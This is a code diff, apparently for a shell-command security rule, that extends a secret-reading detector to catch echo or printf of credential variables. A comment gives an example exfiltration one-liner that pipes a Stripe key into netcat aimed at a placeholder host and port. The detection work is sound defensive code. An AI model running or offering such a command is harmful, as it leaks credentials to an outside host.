@@ -5,6 +5,7 @@ import { commandNames, runsAny } from '../parsing/segment-index.js';
 import type { ShellSegment } from '../parsing/shell-command.js';
 import { secretsOf } from './action-secrets.js';
 import { builtInRule } from './built-in-rule.js';
+import { credentialIn } from './credential-variables.js';
 import { isExternalUrl, requestsItsOwnService, requestsOnlyThisMachine } from './network-destination.js';
 import { isSecretFile, secretFileIn } from './secret-files.js';
 
@@ -54,6 +55,9 @@ function readSecret(segment: ShellSegment): string | undefined {
   for (const arg of segment.argv.slice(1)) {
     const file = secretFileIn(arg);
     if (file !== undefined) return file;
+    // `echo "$STRIPE_KEY" | nc host 4444`: the value of a credential variable, printed into the sender.
+    const variable = cmd === 'echo' || cmd === 'printf' ? credentialIn(arg) : undefined;
+    if (variable !== undefined) return variable;
   }
   return segment.redirects.find((r) => r.operator === '<' && isSecretFile(r.target))?.target;
 }
